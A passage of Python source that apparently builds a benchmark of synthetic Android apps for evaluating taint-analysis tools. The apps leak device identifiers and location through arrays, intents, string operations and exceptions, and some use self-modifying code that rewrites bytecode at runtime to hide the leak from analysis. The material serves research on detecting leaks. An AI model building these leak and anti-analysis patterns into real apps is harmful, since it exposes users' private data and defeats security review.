    if-ne v1, v2, :skip
""",
        """
    const-string v1, "abc"
    invoke-virtual {v1}, Ljava/lang/String;->length()I
    move-result v1
    const/4 v2, 4
    if-ne v1, v2, :skip
""",
        f"""
    sget v1, Lde/bench/dead/UnreachableFlow{index};->enabled:I
    if-eqz v1, :skip
""",
    ]
    fields = ".field public static enabled:I = 0" if index % 3 == 2 else ""
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
{guards[index % 3]}
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    :skip
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls), fields=fields)

    def build():
        return make_sample_apk(f"de.bench.dead.unreach{index}", cls, smali)

    return Sample(
        name=f"UnreachableFlow{index}", category="unreachable_flow",
        leaky=False, build=build, added_by_paper=True,
        description="leak behind an always-false branch: FP trap the "
                    "reassembled DEX eliminates",
    )


def _sanitized(index: int) -> Sample:
    """Taint killed by overwrite before the sink (flow-sensitive TN)."""
    cls = f"Lde/bench/dead/Sanitized{index};"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const-string v0, "scrubbed"
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.dead.sanitized{index}", cls, smali)

    return Sample(
        name=f"Sanitized{index}", category="sanitized", leaky=False,
        build=build,
        description="register overwritten before sink; order-blind tools FP",
    )


def _coverage_gap(index: int) -> Sample:
    """Leak gated on an intent extra the driver never supplies."""
    cls = f"Lde/bench/dead/CoverageGap{index};"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->getIntent()Landroid/content/Intent;
    move-result-object v0
    if-eqz v0, :skip
    const-string v1, "cmd"
    invoke-virtual {{v0, v1}}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    if-eqz v1, :skip
    const-string v2, "activate-{index}"
    invoke-virtual {{v1, v2}}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v2
    if-eqz v2, :skip
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    :skip
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.dead.covgap{index}", cls, smali)

    return Sample(
        name=f"CoverageGap{index}", category="coverage_gap", leaky=True,
        expected_leaks=0, build=build,
        description="leak needs a magic intent extra: statically visible, "
                    "never executed by the standard drive",
    )


def _benign(index: int) -> Sample:
    """No taint APIs at all; arithmetic and strings only."""
    cls = f"Lde/bench/benign/Benign{index};"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    const/16 v0, {index + 3}
    invoke-virtual {{p0, v0}}, {cls}->crunch(I)I
    move-result v1
    invoke-static {{v1}}, Ljava/lang/String;->valueOf(I)Ljava/lang/String;
    move-result-object v2
    const-string v0, "INFO"
    invoke-static {{v0, v2}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method public crunch(I)I
    .registers 4
    const/4 v0, 0
    const/4 v1, 0
    :loop
    if-ge v1, p1, :done
    add-int v0, v0, v1
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    return v0
.end method
"""
    smali = activity_class(cls, body)

    def build():
        return make_sample_apk(f"de.bench.benign.s{index}", cls, smali)

    return Sample(
        name=f"Benign{index}", category="benign", leaky=False, build=build,
        description="no sensitive APIs",
    )


def samples() -> list[Sample]:
    out = [_dead_code(i) for i in range(5)]
    out += [_unreachable_flow(i) for i in range(3)]
    out += [_sanitized(i) for i in range(2)]
    out += [_coverage_gap(i) for i in range(3)]
    out += [_benign(i) for i in range(7)]
    return out
