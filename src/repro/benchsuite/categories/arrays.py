"""Array samples: real flows through arrays plus index-precision traps.

Leaky samples use the same index register for store and load (any array
model catches them).  The two benign ``ArrayIndex*`` traps store taint at
one constant index and leak another: index-insensitive tools (FlowDroid-
and DroidSafe-like) report a false positive; the HornDroid-like value-
sensitive array model stays quiet.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk


def _leaky_sample(index: int) -> Sample:
    cls = f"Lde/bench/arrays/ArrayFlow{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    source = ("getImei", "getSsid", "getLoc")[(index // 3) % 3]
    if index % 2 == 0:
        # Same slot, same index register.
        body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v0, 4
    new-array v1, v0, [Ljava/lang/String;
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v2
    const/4 v3, 1
    aput-object v2, v1, v3
    aget-object v2, v1, v3
    invoke-virtual {{p0, v2}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""
    else:
        # Through a loop copying the array.
        body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 8
    const/4 v0, 3
    new-array v1, v0, [Ljava/lang/String;
    new-array v2, v0, [Ljava/lang/String;
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v3
    const/4 v4, 0
    aput-object v3, v1, v4
    const/4 v4, 0
    :loop
    if-ge v4, v0, :done
    aget-object v5, v1, v4
    aput-object v5, v2, v4
    add-int/lit8 v4, v4, 1
    goto :loop
    :done
    const/4 v4, 0
    aget-object v5, v2, v4
    invoke-virtual {{p0, v5}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.arrays.flow{index}", cls, smali)

    return Sample(
        name=f"ArrayFlow{index}", category="arrays", leaky=True,
        build=build, description=f"array-mediated {source} -> {sink}",
    )


def _index_trap(index: int) -> Sample:
    """Taint at [0] via v3; read [1] via v4: benign, index-blind FP."""
    cls = f"Lde/bench/arrays/ArrayIndex{index};"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 7
    const/4 v0, 4
    new-array v1, v0, [Ljava/lang/String;
    const-string v2, "benign"
    const/4 v4, 1
    aput-object v2, v1, v4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v2
    const/4 v3, 0
    aput-object v2, v1, v3
    const/4 v4, 1
    aget-object v5, v1, v4
    invoke-virtual {{p0, v5}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.arrays.index{index}", cls, smali)

    return Sample(
        name=f"ArrayIndex{index}", category="arrays", leaky=False,
        build=build,
        description="benign slot leaked; index-insensitive tools FP",
    )


def samples() -> list[Sample]:
    out = [_leaky_sample(i) for i in range(7)]
    out += [_index_trap(i) for i in range(2)]
    return out
