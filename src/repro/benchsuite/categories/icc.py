"""Inter-component communication samples.

Sensitive data rides an Intent extra into a second activity started with
``startActivity``.  Tools without an ICC model (FlowDroid-like — the
standalone FlowDroid of the paper, before IccTA) lose the flow at the
component boundary; DroidSafe-like and HornDroid-like connect it.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, multi_class_apk


def _receiver_class(receiver: str, sink: str) -> str:
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {receiver}->getIntent()Landroid/content/Intent;
    move-result-object v0
    if-eqz v0, :done
    const-string v1, "payload"
    invoke-virtual {{v0, v1}}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    if-eqz v1, :done
    invoke-virtual {{p0, v1}}, {receiver}->{sink}(Ljava/lang/String;)V
    :done
    return-void
.end method
"""
    return activity_class(receiver, body + helper_suffix(receiver))


def _sample(index: int) -> Sample:
    sender = f"Lde/bench/icc/Sender{index};"
    receiver = f"Lde/bench/icc/Receiver{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    source = ("getImei", "getSsid", "getLoc")[(index // 3) % 3]
    send_body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    invoke-virtual {{p0}}, {sender}->{source}()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Landroid/content/Intent;
    const-class v2, {receiver}
    invoke-direct {{v1, p0, v2}}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
    const-string v3, "payload"
    invoke-virtual {{v1, v3, v0}}, Landroid/content/Intent;->putExtra(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;
    invoke-virtual {{p0, v1}}, {sender}->startActivity(Landroid/content/Intent;)V
    return-void
.end method
"""
    sender_text = activity_class(sender, send_body + helper_suffix(sender))

    def build():
        return multi_class_apk(
            f"de.bench.icc.s{index}", sender,
            [sender_text, _receiver_class(receiver, sink)],
            activities=[sender, receiver],
        )

    return Sample(
        name=f"IccExtra{index}", category="icc", leaky=True,
        build=build,
        description=f"{source} rides intent extra into {receiver}",
    )


def samples() -> list[Sample]:
    return [_sample(i) for i in range(10)]
