"""GeneralJava samples: direct flows, string operations, exceptions.

The bread-and-butter leaks every competent static tool must find — loops,
helper methods, string transformations, flows through catch blocks.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk

_SOURCES = ["getImei", "getSsid", "getLoc"]
_SINKS = ["logIt", "sms", "www"]


def _direct_sample(index: int) -> Sample:
    source = _SOURCES[index % 3]
    sink = _SINKS[(index // 3) % 3]
    cls = f"Lde/bench/general/Direct{index};"
    variants = [_plain, _via_helper, _via_loop, _via_move_chain, _conditional_taken]
    body = variants[index % len(variants)](cls, source, sink)
    smali = activity_class(cls, body + helper_suffix(cls))

    def build(cls=cls, smali=smali, index=index):
        return make_sample_apk(f"de.bench.general.direct{index}", cls, smali)

    return Sample(
        name=f"Direct{index}",
        category="general",
        leaky=True,
        expected_leaks=1,
        build=build,
        description=f"{source} -> {sink}, variant {index % len(variants)}",
    )


def _plain(cls: str, source: str, sink: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def _via_helper(cls: str, source: str, sink: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->handoff(Ljava/lang/String;)V
    return-void
.end method

.method public handoff(Ljava/lang/String;)V
    .registers 3
    invoke-virtual {{p0, p1}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def _via_loop(cls: str, source: str, sink: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :loop
    const/4 v2, 3
    if-ge v1, v2, :done
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    invoke-virtual {{p0, v0}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def _via_move_chain(cls: str, source: str, sink: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    move-object v1, v0
    move-object v2, v1
    move-object v3, v2
    invoke-virtual {{p0, v3}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def _conditional_taken(cls: str, source: str, sink: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{v0}}, Ljava/lang/String;->length()I
    move-result v1
    if-gtz v1, :leak
    return-void
    :leak
    invoke-virtual {{p0, v0}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def _stringop_sample(index: int) -> Sample:
    cls = f"Lde/bench/general/StringOps{index};"
    bodies = [_concat_body, _builder_body, _substring_body, _upper_body, _valueof_body]
    body = bodies[index % len(bodies)](cls)
    smali = activity_class(cls, body + helper_suffix(cls))

    def build(cls=cls, smali=smali, index=index):
        return make_sample_apk(f"de.bench.general.strops{index}", cls, smali)

    return Sample(
        name=f"StringOps{index}",
        category="general",
        leaky=True,
        build=build,
        description="leak survives string transformation",
    )


def _concat_body(cls: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const-string v1, "id="
    invoke-virtual {{v1, v0}}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""


def _builder_body(cls: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {{v1}}, Ljava/lang/StringBuilder;-><init>()V
    const-string v2, "device:"
    invoke-virtual {{v1, v2}}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {{v1, v0}}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {{v1}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->sms(Ljava/lang/String;)V
    return-void
.end method
"""


def _substring_body(cls: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 2
    invoke-virtual {{v0, v1}}, Ljava/lang/String;->substring(I)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""


def _upper_body(cls: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->getSsid()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{v0}}, Ljava/lang/String;->toUpperCase()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->www(Ljava/lang/String;)V
    return-void
.end method
"""


def _valueof_body(cls: str) -> str:
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->getLoc()Ljava/lang/String;
    move-result-object v0
    invoke-static {{v0}}, Ljava/lang/String;->valueOf(Ljava/lang/Object;)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""


def _exception_sample(index: int) -> Sample:
    cls = f"Lde/bench/general/Exceptions{index};"
    if index == 0:
        # Leak inside a catch block entered via a real ArithmeticException.
        body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :try_start
    const/16 v2, 100
    div-int v2, v2, v1
    :try_end
    return-void
    :handler
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
    .catch Ljava/lang/ArithmeticException; {{:try_start .. :try_end}} :handler
.end method
"""
    elif index == 1:
        # Leak value thrown through an exception message.
        body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    :try_start
    invoke-virtual {{p0}}, {cls}->boom()V
    :try_end
    return-void
    :handler
    move-exception v0
    invoke-virtual {{v0}}, Ljava/lang/RuntimeException;->getMessage()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {{p0, v1}}, {cls}->sms(Ljava/lang/String;)V
    return-void
    .catch Ljava/lang/RuntimeException; {{:try_start .. :try_end}} :handler
.end method

.method public boom()V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/lang/RuntimeException;
    invoke-direct {{v1, v0}}, Ljava/lang/RuntimeException;-><init>(Ljava/lang/String;)V
    throw v1
.end method
"""
    else:
        # finally-style: leak after catch-all.
        body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->getSsid()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :try_start
    const/16 v2, 7
    div-int v2, v2, v1
    :try_end
    goto :after
    :handler
    nop
    :after
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
    .catchall {{:try_start .. :try_end}} :handler
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build(cls=cls, smali=smali, index=index):
        return make_sample_apk(f"de.bench.general.exc{index}", cls, smali)

    return Sample(
        name=f"Exceptions{index}",
        category="general",
        leaky=True,
        build=build,
        description="leak routed through exception handling",
    )


def samples() -> list[Sample]:
    out = [_direct_sample(i) for i in range(14)]
    out += [_stringop_sample(i) for i in range(5)]
    out += [_exception_sample(i) for i in range(3)]
    return out
