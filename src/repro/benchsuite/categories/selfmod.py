"""Self-modifying samples (4 of the paper's 15 contributed samples).

Native code rewrites live bytecode between executions, so at no point in
time does the instruction array show both the source and the sink —
method-level dumps recover Code 2 *or* Code 3, never the taint flow.
All pool indices and dex_pcs are resolved against the live DEX at tamper
time (robust to canonicalization and packing).
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk
from repro.dex.instructions import Instruction
from repro.runtime.apk import register_native_library


def _swap_invoke(ctx, method_sig: str, host: str, old_callee: str, new_callee_sig: str):
    """Replace the first invoke of ``old_callee`` with ``new_callee_sig``."""
    pc = ctx.find_invoke_pc(method_sig, old_callee)
    units = ctx.method_code_units(method_sig)
    old_ins = Instruction.decode_at(units, pc)
    target = ctx.method_pool_index(host, new_callee_sig)
    patched = Instruction.make(
        "invoke-virtual", target, *old_ins.invoke_registers
    ).encode()
    ctx.patch_code(method_sig, pc, patched)


def _code1_single() -> Sample:
    """SelfMod0: the minimal invoke swap (normal -> sink -> normal)."""
    cls = "Lde/bench/selfmod/SelfMod0;"
    leak_sig = f"{cls}->leak()V"

    def tamper(ctx, this, i):
        if i == 0:
            _swap_invoke(ctx, leak_sig, cls, "normal",
                         f"{cls}->sink0(Ljava/lang/String;)V")
        else:
            _swap_invoke(ctx, leak_sig, cls, "sink0",
                         f"{cls}->normal(Ljava/lang/String;)V")

    register_native_library(
        "libselfmod0", {f"{cls}->tamper(I)V": tamper}
    )
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->leak()V
    return-void
.end method

.method public leak()V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :loop
    const/4 v2, 2
    if-ge v1, v2, :done
    invoke-virtual {{p0, v0}}, {cls}->normal(Ljava/lang/String;)V
    invoke-virtual {{p0, v1}}, {cls}->tamper(I)V
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    return-void
.end method

.method public normal(Ljava/lang/String;)V
    .registers 2
    return-void
.end method

.method public sink0(Ljava/lang/String;)V
    .registers 3
    invoke-virtual {{p0, p1}}, {cls}->sms(Ljava/lang/String;)V
    return-void
.end method

.method public native tamper(I)V
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(
            "de.bench.selfmod.s0", cls, smali, native_libraries=["libselfmod0"]
        )

    return Sample(
        name="SelfMod0", category="selfmod", leaky=True, build=build,
        added_by_paper=True, description="paper Code 1, single patch",
    )


def _code1_full() -> Sample:
    """SelfMod1: the exact paper Code 1 — both the source line and the
    call site are rewritten, defeating any single-snapshot dump."""
    cls = "Lde/bench/selfmod/SelfMod1;"
    leak_sig = f"{cls}->leak()V"

    def tamper(ctx, this, i):
        source_pc = 0  # leak() starts with the source invoke (3 units)
        if i == 0:
            # Hide the source: invoke getImei (3u) + move-result-object (1u)
            # become const-string + 2 nops (4 units total).
            benign = ctx.string_pool_index(cls, "non-sensitive data")
            patched = Instruction.make("const-string", 0, benign).encode()
            patched += [0x0000, 0x0000]  # two nops
            ctx.patch_code(leak_sig, source_pc, patched)
            _swap_invoke(ctx, leak_sig, cls, "normal",
                         f"{cls}->sink1(Ljava/lang/String;)V")
        else:
            # Restore everything (paper: "resumes the code back to Code 2").
            # leak() has 3 locals + this, so p0 is register 3.
            src = ctx.method_pool_index(cls, f"{cls}->getImei()Ljava/lang/String;")
            restored = Instruction.make("invoke-virtual", src, 3).encode()
            restored += Instruction.make("move-result-object", 0).encode()
            ctx.patch_code(leak_sig, source_pc, restored)
            _swap_invoke(ctx, leak_sig, cls, "sink1",
                         f"{cls}->normal(Ljava/lang/String;)V")

    register_native_library(
        "libselfmod1", {f"{cls}->tamper(I)V": tamper}
    )
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->leak()V
    return-void
.end method

.method public leak()V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :loop
    const/4 v2, 2
    if-ge v1, v2, :done
    invoke-virtual {{p0, v0}}, {cls}->normal(Ljava/lang/String;)V
    invoke-virtual {{p0, v1}}, {cls}->tamper(I)V
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    return-void
.end method

.method public normal(Ljava/lang/String;)V
    .registers 2
    return-void
.end method

.method public sink1(Ljava/lang/String;)V
    .registers 3
    invoke-virtual {{p0, p1}}, {cls}->sms(Ljava/lang/String;)V
    return-void
.end method

.method public native tamper(I)V
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(
            "de.bench.selfmod.s1", cls, smali, native_libraries=["libselfmod1"]
        )

    return Sample(
        name="SelfMod1", category="selfmod", leaky=True, build=build,
        added_by_paper=True,
        description="paper Code 1 exactly: source and call site both rewritten",
    )


def _branch_flip() -> Sample:
    """SelfMod2: an if-eqz guarding the sink is flipped to if-nez."""
    cls = "Lde/bench/selfmod/SelfMod2;"
    leak_sig = f"{cls}->guarded()V"

    def tamper(ctx, this):
        units = ctx.method_code_units(leak_sig)
        pos = 0
        while pos < len(units):
            ins = Instruction.decode_at(units, pos)
            if ins.name == "if-eqz":
                flipped = Instruction.make("if-nez", *ins.operands).encode()
                ctx.patch_code(leak_sig, pos, flipped)
                return
            pos += ins.unit_count

    register_native_library(
        "libselfmod2", {f"{cls}->tamper()V": tamper}
    )
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->guarded()V
    invoke-virtual {{p0}}, {cls}->tamper()V
    invoke-virtual {{p0}}, {cls}->guarded()V
    return-void
.end method

.method public guarded()V
    .registers 4
    const/4 v1, 0
    if-eqz v1, :safe
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    :safe
    return-void
.end method

.method public native tamper()V
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(
            "de.bench.selfmod.s2", cls, smali, native_libraries=["libselfmod2"]
        )

    return Sample(
        name="SelfMod2", category="selfmod", leaky=True, build=build,
        added_by_paper=True,
        description="branch polarity flipped at runtime to expose the sink",
    )


def _two_layer() -> Sample:
    """SelfMod3: the same call site is rewritten twice (nested divergence:
    normal -> decoy -> sink), exercising multi-layer trees."""
    cls = "Lde/bench/selfmod/SelfMod3;"
    leak_sig = f"{cls}->leak()V"

    def tamper(ctx, this, i):
        if i == 0:
            _swap_invoke(ctx, leak_sig, cls, "normal",
                         f"{cls}->decoy(Ljava/lang/String;)V")
        elif i == 1:
            _swap_invoke(ctx, leak_sig, cls, "decoy",
                         f"{cls}->sink3(Ljava/lang/String;)V")
        else:
            _swap_invoke(ctx, leak_sig, cls, "sink3",
                         f"{cls}->normal(Ljava/lang/String;)V")

    register_native_library(
        "libselfmod3", {f"{cls}->tamper(I)V": tamper}
    )
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->leak()V
    return-void
.end method

.method public leak()V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    :loop
    const/4 v2, 3
    if-ge v1, v2, :done
    invoke-virtual {{p0, v0}}, {cls}->normal(Ljava/lang/String;)V
    invoke-virtual {{p0, v1}}, {cls}->tamper(I)V
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    return-void
.end method

.method public normal(Ljava/lang/String;)V
    .registers 2
    return-void
.end method

.method public decoy(Ljava/lang/String;)V
    .registers 2
    return-void
.end method

.method public sink3(Ljava/lang/String;)V
    .registers 3
    invoke-virtual {{p0, p1}}, {cls}->www(Ljava/lang/String;)V
    return-void
.end method

.method public native tamper(I)V
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(
            "de.bench.selfmod.s3", cls, smali, native_libraries=["libselfmod3"]
        )

    return Sample(
        name="SelfMod3", category="selfmod", leaky=True, build=build,
        added_by_paper=True,
        description="two-layer self-modification (nested divergence)",
    )


def samples() -> list[Sample]:
    return [_code1_single(), _code1_full(), _branch_flip(), _two_layer()]
