"""Storage samples: PrivateDataLeak3 (Table IV's last row).

Two flows: (A) the IMEI is written byte-for-byte to external storage and
read back before being sent by SMS — the taint tags do not survive the
filesystem round trip, so *every* tool (TaintDroid, TaintART and
DexLego+HornDroid alike) misses it; (B) a direct Log leak that everyone
catches.  Expected detections: 1 of 2, matching the paper.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk


def _private_data_leak3() -> Sample:
    cls = "Lde/bench/storage/PrivateDataLeak3;"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 10
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0

    # Flow B: direct leak (caught by everyone).
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V

    # Flow A: write to external storage, read back, send by SMS.
    invoke-virtual {{v0}}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    new-instance v2, Ljava/io/FileOutputStream;
    const-string v3, "/sdcard/out.txt"
    invoke-direct {{v2, v3}}, Ljava/io/FileOutputStream;-><init>(Ljava/lang/String;)V
    invoke-virtual {{v2, v1}}, Ljava/io/FileOutputStream;->write([B)V
    invoke-virtual {{v2}}, Ljava/io/FileOutputStream;->close()V

    new-instance v4, Ljava/io/FileInputStream;
    invoke-direct {{v4, v3}}, Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    const/16 v5, 64
    new-array v5, v5, [B
    invoke-virtual {{v4, v5}}, Ljava/io/FileInputStream;->read([B)I
    move-result v6
    invoke-virtual {{v4}}, Ljava/io/FileInputStream;->close()V

    new-instance v7, Ljava/lang/StringBuilder;
    invoke-direct {{v7}}, Ljava/lang/StringBuilder;-><init>()V
    const/4 v8, 0
    :rebuild
    if-ge v8, v6, :rebuilt
    aget-byte v3, v5, v8
    int-to-char v3, v3
    invoke-virtual {{v7, v3}}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    add-int/lit8 v8, v8, 1
    goto :rebuild
    :rebuilt
    invoke-virtual {{v7}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v3
    invoke-virtual {{p0, v3}}, {cls}->sms(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk("de.bench.storage.pdl3", cls, smali)

    return Sample(
        name="PrivateDataLeak3", category="storage", leaky=True,
        expected_leaks=1,  # the oracle (like every tool) loses flow A
        build=build,
        description="file-laundered SMS flow + direct Log flow (Table IV)",
    )


def samples() -> list[Sample]:
    return [_private_data_leak3()]
