"""Callback samples: leaks through registered UI listeners.

Includes Button1 and Button3 — the Table IV rows where the sensitive data
round-trips through framework widget storage (``setText``/``getText``),
which static taint wrappers model but dynamic trackers launder away.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import (
    activity_class,
    helper_suffix,
    make_sample_apk,
    multi_class_apk,
)


def _button1() -> Sample:
    """Source -> widget text in onCreate; onClick reads it back and leaks."""
    cls = "Lde/bench/callbacks/Button1;"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/16 v1, 42
    invoke-virtual {{p0, v1}}, {cls}->findViewById(I)Landroid/view/View;
    move-result-object v1
    check-cast v1, Landroid/widget/TextView;
    invoke-virtual {{v1, v0}}, Landroid/widget/TextView;->setText(Ljava/lang/String;)V
